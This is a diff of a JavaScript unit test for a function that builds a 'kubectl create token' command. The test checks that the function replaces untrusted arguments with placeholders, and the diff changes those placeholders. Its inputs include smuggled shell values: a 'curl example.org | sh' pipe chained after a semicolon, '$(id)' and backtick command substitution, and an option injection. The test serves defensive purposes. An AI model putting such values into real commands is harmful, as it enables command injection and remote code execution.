@@ -42,7 +42,7 @@ describe('The command that asks again', () => {
     const audiences = ['vault; curl example.org | sh', '$(id)', '-x'];
     const boundObjectRef = { kind: 'Pod; id', name: '`id`' };
     expect(commandOf({ audiences, boundObjectRef })).toBe(
-      'kubectl create token web --namespace shop --duration 15m --audience <audience> --audience <audience> --audience <audience> --bound-object-kind <kind> --bound-object-name <name>',
+      'kubectl create token web --namespace shop --duration 15m --audience AUDIENCE --audience AUDIENCE --audience AUDIENCE --bound-object-kind KIND --bound-object-name NAME',
     );
   });
 });
